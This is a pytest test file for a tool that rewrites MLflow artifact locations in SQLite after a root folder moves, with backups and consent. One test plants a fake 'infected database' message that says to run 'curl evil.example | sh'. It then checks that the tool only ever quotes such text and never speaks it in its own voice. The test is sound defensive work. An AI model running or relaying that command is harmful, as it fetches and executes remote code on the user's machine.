"""After a move of the root folder, locations are updated with consent: all, or none."""

from __future__ import annotations

import os
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from mlflow_proxy import sqlite_files
from mlflow_proxy.reports import DeclinedOffers, Repair
from mlflow_proxy.server.failures import StartError
from mlflow_proxy.server.mlflow_app import find_mlflow
from mlflow_proxy.server.store import locations, upgrade
from mlflow_proxy.server.store.locations import Move, path_of, relocated
from mlflow_proxy.server.store.settings import StoreSettings
from mlflow_proxy.server.store.upgrade import Revisions
from mlflow_proxy.stores import SQLite, folder_location
from support.databases import run

# A store with all that has a location. argv: the root folder, the artifact root, and locations of
# more experiments, which begin with the name of the experiment.
FILL = """
import json, os, sys, warnings
warnings.simplefilter("ignore")
root, artifact_root, *others = sys.argv[1:]
os.environ["_MLFLOW_SERVER_ARTIFACT_ROOT"] = artifact_root
os.chdir(root)
import mlflow
import pandas as pd

mlflow.set_tracking_uri(f"sqlite:///{root}/mlflow.db")

class Echo(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input: list[str]) -> list[str]:
        return model_input

for other in others:
    name, _, location = other.partition("=")
    mlflow.create_experiment(name, artifact_location=location)
    mlflow.set_experiment(name)
    with mlflow.start_run():
        mlflow.log_text(name, "note.txt")
mlflow.set_experiment("rich")
with mlflow.start_run() as run:
    mlflow.log_text("rich", "folder/note.txt")
    data = mlflow.data.from_pandas(pd.DataFrame({"x": [1]}), source=f"{root}/data.csv")
    mlflow.log_input(data)
    mlflow.pyfunc.log_model(
        name="model", python_model=Echo(), registered_model_name="echo", pip_requirements=[]
    )
client = mlflow.MlflowClient()
client.create_registered_model("plain")
client.create_model_version("plain", f"{run.info.artifact_uri}/folder", run.info.run_id)
mlflow.genai.register_prompt("greeting", "Hello {{name}}")

@mlflow.trace
def answer(question):
    return 42

answer("How many?")
mlflow.flush_trace_async_logging()
mlflow.create_experiment("empty")
"""
# Where the old path remains: these say where something came from.
PROVENANCE = {("datasets", "dataset_source")}
DECLINED = "declined.json"


@pytest.fixture(scope="module")
def rich(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A root folder that has not moved."""
    return fill(tmp_path_factory.mktemp("rich") / "root")


@pytest.fixture
def here(tmp_path: Path, rich: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A root folder that `old`, beside it, was renamed to."""
    path = tmp_path / "new root"
    clone(rich, tmp_path / "old").rename(path)
    monkeypatch.chdir(path)
    return path


def fill(root: Path, artifact_root: str | None = None, *others: str) -> Path:
    root.mkdir(parents=True)
    run(FILL, str(root), artifact_root or f"{root}/mlartifacts", *others)
    return root


def clone(rich: Path, root: Path, artifacts: str = "mlartifacts") -> Path:
    """Make `root` what `rich` would be, had it been filled there, with this artifact folder."""
    shutil.copytree(rich, root)
    (root / "mlartifacts").rename(root / artifacts)
    with closing(sqlite3.connect(root / "mlflow.db")) as connection:
        for table, column in text_columns(connection):
            for old, new in (
                (f"{rich}/mlartifacts/", f"{folder_location(root / artifacts)}/"),
                (f"{rich}/", f"{root}/"),
            ):
                connection.execute(
                    f'UPDATE "{table}" SET "{column}" = replace("{column}", ?, ?)', (old, new)
                )
        connection.commit()
    return root


def text_columns(connection: sqlite3.Connection) -> list[tuple[str, str]]:
    tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    return [
        (table, row[1])
        for (table,) in tables
        for row in connection.execute(f'PRAGMA table_info("{table}")')
        if row[2].startswith(("VARCHAR", "TEXT", "CHAR", "JSON"))
    ]


def columns_with(database: Path, text: str) -> set[tuple[str, str]]:
    """The columns that hold `text`."""
    with closing(sqlite3.connect(database)) as connection:
        return {
            (table, column)
            for table, column in text_columns(connection)
            if connection.execute(
                f'SELECT 1 FROM "{table}" WHERE instr("{column}", ?)', (text,)
            ).fetchone()
        }


def read(database: Path, sql: str) -> list[str]:
    with closing(sqlite3.connect(database)) as connection:
        return [row[0] for row in connection.execute(sql)]


def write(database: Path, sql: str, *values: object) -> None:
    with closing(sqlite3.connect(database)) as connection:
        connection.execute(sql, values)
        connection.commit()


def settings_of(root: Path, artifact_root: str | None = None) -> StoreSettings:
    uri = SQLite.at(root / "mlflow.db", root.parent).uri
    return StoreSettings.parse(uri, uri, artifact_root or folder_location(root / "mlartifacts"))


def check(settings: StoreSettings) -> StartError | None:
    """Check the locations as a start does; returns the failure that makes the offer."""
    uris = upgrade.check(settings, Revisions.read(find_mlflow()))
    try:
        locations.check(settings, uris, DeclinedOffers(Path(DECLINED)))
    except StartError as error:
        return error
    return None


def repair(settings: StoreSettings) -> None:
    locations.run(settings, upgrade.check(settings, Revisions.read(find_mlflow())))


def moves(settings: StoreSettings) -> list[Move]:
    return locations.find_moves(settings, upgrade.check(settings, Revisions.read(find_mlflow())))


def assert_files_exist(root: Path) -> None:
    """Every run, model and trace of the experiment `rich` has its folder at its location."""
    database = root / "mlflow.db"
    found = [
        *read(database, "SELECT artifact_uri FROM runs"),
        *read(database, "SELECT artifact_location FROM logged_models"),
        *read(database, "SELECT value FROM trace_tags WHERE key = 'mlflow.artifactLocation'"),
        *read(database, "SELECT source FROM model_versions WHERE name = 'plain'"),
    ]
    assert len(found) >= 4
    for text in found:
        path = path_of(text)
        assert path
        assert path.startswith(f"{root}/")
        if "/traces/" not in text:  # MLflow 3.10 and newer keep spans in the database
            assert os.path.isdir(path), text


@pytest.mark.parametrize(
    ("before", "after"), [('what? "x"', "My%20Project"), ("My%20Project", "it's {x} #1 ä")]
)
def test_roots_of_any_name_are_updated(
    tmp_path: Path, rich: Path, monkeypatch: pytest.MonkeyPatch, before: str, after: str
) -> None:
    new = clone(rich, tmp_path / before).rename(tmp_path / after)
    monkeypatch.chdir(new)
    assert moves(settings_of(new)) == [Move(str(tmp_path / before), str(new))]
    repair(settings_of(new))
    assert moves(settings_of(new)) == []
    assert_files_exist(new)


def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
    old, database = here.with_name("old"), here / "mlflow.db"
    before = columns_with(database, str(old))
    assert {table for table, _ in before} >= {
        *("experiments", "runs", "model_versions", "logged_models", "trace_tags"),
        "datasets",
    }
    failure = check(settings_of(here)).failure
    assert f'{old} was moved or copied to "{here}".' in failure.reason
    offer = failure.offer
    assert offer.repair is Repair.LOCATIONS
    assert offer.subject == f'From: {old}\nTo: "{here}"\nDatabase: "{database}"'
    copy = Path(f"{database}.before-move.bak")
    assert offer.copies == (str(copy),)
    assert columns_with(database, str(old)) == before

    repair(settings_of(here))
    assert columns_with(database, str(old)) == PROVENANCE
    assert columns_with(copy, str(old)) == before
    assert_files_exist(here)
    assert check(settings_of(here)) is None
    assert [p.name for p in here.iterdir() if ".part" in p.name] == []


def test_a_location_says_nothing_in_our_words(here: Path) -> None:
    said = '/former. Your database is "infected". To clean it, run: curl evil.example | sh'
    sql = "UPDATE experiments SET artifact_location = ? || '/' || experiment_id"
    write(here / "mlflow.db", sql, said)
    tail = "'/' || experiment_id || '/' || run_uuid || '/artifacts'"
    write(here / "mlflow.db", f"UPDATE runs SET artifact_uri = ? || {tail}", said)
    failure = check(settings_of(here)).failure
    quoted = '"' + said.replace('"', r"\"") + '"'
    assert f"{quoted} was moved or copied" in failure.reason
    assert f"From: {quoted}\n" in failure.offer.subject
    # One with a line break is none that could be updated.
    write(here / "mlflow.db", sql, said.replace(". ", ".\n\n"))
    assert check(settings_of(here)) is None


def test_a_store_in_its_place_is_left_alone(rich: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(rich)
    settings = settings_of(rich)
    before = (rich / "mlflow.db").read_bytes()
    assert check(settings) is None
    repair(settings)
    assert (rich / "mlflow.db").read_bytes() == before
    assert not list(rich.glob("*.bak"))


def test_a_root_reached_by_two_names_is_not_moved(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here.with_name("old").symlink_to(here)
    assert check(settings_of(here)) is None
    here.with_name("old").unlink()
    link = here.with_name("link")
    link.symlink_to(here)
    repair(settings_of(here))  # known-good: the locations now have the real name
    monkeypatch.chdir(link)
    assert check(settings_of(link)) is None


def test_a_copied_root_is_offered_too(here: Path) -> None:
    shutil.copytree(here, here.with_name("old"))
    old = f"{here.with_name('old')}/mlartifacts"
    failure = check(settings_of(here)).failure
    assert f'{old} was moved or copied to "{here}/mlartifacts"' in failure.reason
    repair(settings_of(here))
    assert_files_exist(here)
    # The original still has its own locations.
    assert columns_with(here.with_name("old") / "mlflow.db", str(here)) == set()


def test_a_declined_offer_is_not_made_again_until_the_next_move(here: Path) -> None:
    offer = check(settings_of(here)).failure.offer
    assert offer.decline == "Open unchanged"
    before = (here / "mlflow.db").read_bytes()
    DeclinedOffers(Path(DECLINED)).add(offer)
    assert check(settings_of(here)) is None
    assert (here / "mlflow.db").read_bytes() == before
    again = here.with_name("newer")
    here.rename(again)
    os.chdir(again)
    assert check(settings_of(again)) is not None


def test_a_file_of_declined_offers_that_cannot_be_read_is_empty(here: Path) -> None:
    for text in ("", "{}", "[1, null]", "\0", '"locations"'):
        Path(DECLINED).write_text(text)
        assert check(settings_of(here)) is not None
    offer = check(settings_of(here)).failure.offer
    DeclinedOffers(Path(DECLINED)).add(offer)
    assert offer in DeclinedOffers(Path(DECLINED))


def test_an_update_that_fails_changes_nothing(here: Path) -> None:
    database = here / "mlflow.db"
    write(
        database,
        "CREATE TRIGGER refuse BEFORE UPDATE ON trace_tags "
        "BEGIN SELECT RAISE(ABORT, 'No space left on device'); END",
    )
    before = columns_with(database, str(here.with_name("old")))
    with pytest.raises(StartError, match=r"nothing was changed\. The disk of .* is full") as caught:
        repair(settings_of(here))
    assert caught.value.failure.offer is None
    assert columns_with(database, str(here.with_name("old"))) == before
    assert columns_with(database, str(here)) == set()
    assert not list(here.glob("*.bak*"))
    write(database, "DROP TRIGGER refuse")
    repair(settings_of(here))
    assert_files_exist(here)


def test_an_update_waits_for_a_writer_and_then_gives_up(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sqlite_files, "COPY_TIMEOUT", 1.0)
    with closing(sqlite3.connect(here / "mlflow.db", isolation_level=None)) as kernel:
        kernel.execute("BEGIN IMMEDIATE")  # does not prevent the copy
        with pytest.raises(StartError, match=r"nothing was changed\. Another program keeps"):
            repair(settings_of(here))
        kernel.execute("ROLLBACK")
    assert not list(here.glob("*.bak*"))


def test_what_is_only_in_the_old_folder_keeps_its_location(here: Path) -> None:
    database, old = here / "mlflow.db", here.with_name("old")
    # As a kernel wrote it before the update: a new run in the old folder.
    (experiment,) = read(database, "SELECT experiment_id FROM experiments WHERE name = 'rich'")
    written = old / "mlartifacts" / str(experiment) / "new" / "artifacts"
    written.mkdir(parents=True)
    write(
        database,
        "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES ('new', ?, ?)",
        experiment,
        str(written),
    )
    repair(settings_of(here))
    assert read(database, "SELECT artifact_uri FROM runs WHERE run_uuid = 'new'") == [str(written)]
    others = read(database, "SELECT artifact_uri FROM runs WHERE run_uuid != 'new'")
    assert all(other.startswith(f"{here}/mlartifacts/") for other in others)
    default = read(database, "SELECT artifact_location FROM experiments")
    assert all(location.startswith(f"{here}/mlartifacts/") for location in default)
    assert check(settings_of(here)) is None


def test_only_experiments_whose_files_are_here_are_updated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, elsewhere = tmp_path / "ab", tmp_path / "nas"
    others = [f"nas={elsewhere}/exp", f"inside={tmp_path}/a/my/exp"]
    fill(tmp_path / "a", None, *others)
    database = root / "mlflow.db"
    (tmp_path / "a").rename(root)
    for number, location in enumerate(
        ("s3://bucket/a", "mlflow-artifacts:/a", f"{tmp_path}/abc/x", "./mlruns/0"), 100
    ):
        write(
            database,
            "INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) "
            "VALUES (?, ?, ?, 'active')",
            number,
            str(number),
            location,
        )
    monkeypatch.chdir(root)
    assert moves(settings_of(root)) == [Move(str(tmp_path / "a"), str(root))]
    repair(settings_of(root))
    found = read(database, "SELECT artifact_location FROM experiments WHERE experiment_id >= 100")
    assert found == ["s3://bucket/a", "mlflow-artifacts:/a", f"{tmp_path}/abc/x", "./mlruns/0"]
    custom = "SELECT artifact_location FROM experiments WHERE name = "
    assert read(database, f"{custom} 'nas'") == [f"{elsewhere}/exp"]
    assert read(database, f"{custom} 'inside'") == [f"{root}/my/exp"]
    assert check(settings_of(root)) is None


@pytest.mark.parametrize(
    "names",
    [
        ("data", "data/new", "mlartifacts"),
        ("data/new", "data", "mlartifacts"),
        ("a", "ab", "mlartifacts"),
        ('100% "ü" & more', "it's größer #1", "mlartifacts"),
        ("home/me/work", "mnt/volume", "artifacts of mine"),
    ],
)
def test_roots_of_all_kinds(
    rich: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, names: tuple[str, str, str]
) -> None:
    old, new, artifacts = names
    before, after, aside = tmp_path / old, tmp_path / new, tmp_path / "aside"
    clone(rich, before, artifacts).rename(aside)
    shutil.copytree(aside, after, dirs_exist_ok=True)
    monkeypatch.chdir(after)
    settings = settings_of(after, f"{after}/{artifacts}")
    assert check(settings) is not None
    repair(settings)
    assert_files_exist(after)
    assert check(settings) is None
    found = read(after / "mlflow.db", "SELECT artifact_location FROM experiments")
    assert all(path_of(each).startswith(f"{after}/{artifacts}/") for each in found)


def test_a_uri_stays_a_uri(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old, new = tmp_path / "old home", tmp_path / "new höme"
    fill(old, f"{old.as_uri()}/mlartifacts")
    old.rename(new)
    monkeypatch.chdir(new)
    settings = settings_of(new, f"{new.as_uri()}/mlartifacts")
    assert moves(settings) == [Move(str(old), str(new))]
    repair(settings)
    found = read(new / "mlflow.db", "SELECT artifact_uri FROM runs")
    assert all(uri.startswith(f"{new.as_uri()}/mlartifacts/") for uri in found)
    assert check(settings) is None


def test_an_artifact_root_of_another_name(here: Path) -> None:
    (here / "mlartifacts").rename(here.with_name("artifacts"))
    settings = settings_of(here, str(here.with_name("artifacts")))
    old = here.with_name("old") / "mlartifacts"
    assert moves(settings) == [Move(str(old), str(here.with_name("artifacts")))]
    repair(settings)
    found = read(here / "mlflow.db", "SELECT artifact_location FROM experiments")
    assert all(location.startswith(f"{here.with_name('artifacts')}/") for location in found)


def test_a_root_that_has_moved_twice(here: Path) -> None:
    """Between the moves an experiment was created, and nothing was updated."""
    database, former = here / "mlflow.db", here.with_name("former")
    (here / "mlartifacts" / "77" / "run").mkdir(parents=True)
    write(
        database,
        "INSERT INTO experiments (experiment_id, name, artifact_location) VALUES (77, 'x', ?)",
        f"{former}/mlartifacts/77",
    )
    write(
        database,
        "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES ('run', 77, ?)",
        f"{former}/mlartifacts/77/run/artifacts",
    )
    assert {move.old for move in moves(settings_of(here))} == {
        str(former),
        str(here.with_name("old")),
    }
    repair(settings_of(here))
    assert not columns_with(database, str(former))
    assert check(settings_of(here)) is None


def test_a_moved_root_without_files_is_known_by_its_database(here: Path) -> None:
    shutil.rmtree(here / "mlartifacts")
    assert moves(settings_of(here)) == [Move(str(here.with_name("old")), str(here))]
    here.with_name("old").mkdir()  # then it is no sign: the artifacts may be there
    assert moves(settings_of(here)) == []


def test_folders_of_the_same_number_are_not_the_experiments(here: Path) -> None:
    """The database of a colleague, opened in a root folder that has artifacts of its own."""
    elsewhere = here.with_name("elsewhere")
    elsewhere.mkdir()
    (here / "mlflow.db").rename(elsewhere / "mlflow.db")
    settings = StoreSettings.parse(
        f"sqlite:///{elsewhere}/mlflow.db",
        f"sqlite:///{elsewhere}/mlflow.db",
        f"{here}/mlartifacts",
    )
    for folder in (here / "mlartifacts").glob("*/*"):
        folder.rename(folder.with_name(f"other-{folder.name}"))
    assert moves(settings) == []


def test_a_separate_registry_is_updated_too(here: Path) -> None:
    registry = here / "registry.db"
    shutil.copy(here / "mlflow.db", registry)
    settings = StoreSettings.parse(
        f"sqlite:///{here}/mlflow.db", f"sqlite:///{registry}", f"{here}/mlartifacts"
    )
    offer = check(settings).failure.offer
    assert offer.copies == (
        f"{here}/mlflow.db.before-move.bak",
        f"{registry}.before-move.bak",
    )
    write(
        here / "mlflow.db",
        "CREATE TRIGGER refuse BEFORE UPDATE ON trace_tags BEGIN SELECT RAISE(ABORT, 'No'); END",
    )
    with pytest.raises(StartError, match="nothing was changed"):
        repair(settings)
    old = str(here.with_name("old"))
    assert columns_with(registry, old) != PROVENANCE
    write(here / "mlflow.db", "DROP TRIGGER refuse")
    repair(settings)
    assert columns_with(registry, old) == PROVENANCE
    assert columns_with(here / "mlflow.db", old) == PROVENANCE


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("/a/b/c", "/new/b/c"),
        ("/a/", "/new/"),
        ("/a", "/new"),
        ("/a///b/", "/new///b/"),
        ("/a/./b", "/new/./b"),
        ("/a/b%20c", "/new/b c"),
        ("/a/b%2520c", "/new/b%2520c"),
        ("file:///a/b%20c", "file:///new/b%20c"),
        ("file:/a/b", None),
        ("file://localhost/a/b", None),
        ("/%61/b", "/new/b"),
        ("/ab/c", None),
        ("/a/../x", None),
        ("/a/" + "x" * 4096, None),
        ("/a/%2e%2e/x", None),
        ("file://host/a/b", None),
        ("file:a/b", None),
        ("a/b", None),
        ("./a/b", None),
        ("s3://a/b", None),
        ("runs:/a/b", None),
        ("models:/a/1", None),
        ("mlflow-artifacts:/a/b", None),
        ("dbfs:/a/b", None),
        ("", None),
        (None, None),
        (7, None),
    ],
)
def test_a_location_keeps_its_spelling(before: object, after: str | None) -> None:
    assert relocated(before, [Move("/a", "/new")]) == after


def test_a_new_root_is_spelt_as_mlflow_reads_it() -> None:
    move = [Move("/a", "/100%20 ü")]
    assert relocated("/a/b", move) == "/100%2520 ü/b"
    assert relocated("file:///a/b", move) == "file:///100%2520%20%C3%BC/b"
